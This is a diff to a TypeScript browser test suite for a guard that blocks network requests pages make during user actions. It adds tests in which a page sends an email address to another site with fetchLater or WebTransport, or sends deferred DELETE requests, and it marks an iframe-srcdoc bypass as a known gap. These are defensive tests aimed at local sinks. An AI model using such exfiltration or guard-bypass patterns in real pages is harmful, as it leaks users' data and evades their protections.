@@ -69,10 +69,10 @@ describe("a DELETE sent with a fresh frame's own fetch", function () {
     });
   }
 
-  it('a srcdoc frame whose own script sends the DELETE', async function () {
-    // GAP: in Firefox and WebKit a srcdoc (or same-site src) frame's document gets a new window
-    // whose scripts run before anything of the page's can reach it; Chromium's is watched in time.
-    if (!/Chrome/.test(navigator.userAgent)) this.skip();
+  // GAP: a srcdoc (or same-site src) frame's document runs its scripts before anything of the
+  // page's is told the frame exists (no load event for its first, empty document when it has a
+  // srcdoc): caught in Chromium only now and then, by timing, so not claimed.
+  it.skip('a srcdoc frame whose own script sends the DELETE', async function () {
     const state = { failed: false, done: false };
     const script = `<script>fetch(${JSON.stringify(sink.url('/api/messages/7'))}, { method: 'DELETE' }).then(() => parent.postMessage('sent', '*'), () => parent.postMessage('failed', '*'))</script>`;
     const heard = (event: MessageEvent) => {
@@ -128,5 +128,66 @@ describe('frames as pages use them, during an action', function () {
     await attack({ page: archive, setup: clicking(async () => (frame.contentDocument!.body.textContent = 'Archived'), state) });
     await waitFor(() => state.done, 'the handler to run');
     expect(frame.contentDocument!.body.textContent).to.equal('Archived');
+  });
+});
+
+// Two senders the guard did not wrap: `fetchLater` (a request the browser sends later, or as the
+// page goes away, Chromium) and `WebTransport` (a connection to another origin, Chromium and
+// Firefox). The first is judged as a beacon is, the second as a socket.
+// Read as the page's handler reads them, when it runs (a reference kept from before is a known gap).
+type Senders = { fetchLater?: (input: string, init?: RequestInit & { activateAfter?: number }) => { activated: boolean }; WebTransport?: new (url: string) => unknown };
+const senders = () => window as unknown as Senders;
+
+describe('senders the guard did not wrap before', function () {
+  this.timeout(30_000);
+
+  it('fetchLater: a DELETE the page defers is asked about; on a no it never reaches the site', async function () {
+    if (!senders().fetchLater) this.skip(); // Chromium only
+    const run = await attack({
+      page: archive,
+      config: site(),
+      setup: (root) => root.querySelector('button')!.addEventListener('click', () => {
+        try {
+          senders().fetchLater!(sink.url('/api/messages/7'), { method: 'DELETE', activateAfter: 0 });
+        } catch {
+          // refused: the page goes on
+        }
+      }),
+    });
+    expect(run.asked.map((question) => question.effect?.method), 'questions').to.deep.equal(['DELETE']);
+    expect((await sink.received(800)).filter((record) => record.method === 'DELETE'), 'DELETEs that reached the site').to.deep.equal([]);
+  });
+
+  it("fetchLater: the page's data sent to another site is refused", async function () {
+    if (!senders().fetchLater) this.skip();
+    const run = await attack({
+      page: save,
+      setup: (root) => root.querySelector('button')!.addEventListener('click', () => {
+        try {
+          senders().fetchLater!(sink.url('/collect'), { method: 'POST', body: 'ada@example.com', activateAfter: 0 });
+        } catch {
+          // refused
+        }
+      }),
+    });
+    expect(run.blocked.length, 'blocked events').to.be.greaterThan(0);
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+  });
+
+  it('WebTransport to another site during an action is refused', async function () {
+    if (!senders().WebTransport) this.skip(); // not in WebKit
+    const thrown: string[] = [];
+    const run = await attack({
+      page: save,
+      setup: (root) => root.querySelector('button')!.addEventListener('click', () => {
+        try {
+          new (senders().WebTransport!)(`https://127.0.0.1:9/?e=ada@example.com`);
+        } catch (error) {
+          thrown.push((error as Error).name);
+        }
+      }),
+    });
+    expect(thrown, 'the page heard the refusal').to.deep.equal(['SecurityError']);
+    expect(run.blocked.map((detail) => detail.effect?.url), 'blocked events').to.satisfy((urls: unknown[]) => urls.some((url) => String(url).includes('127.0.0.1:9')));
   });
 });
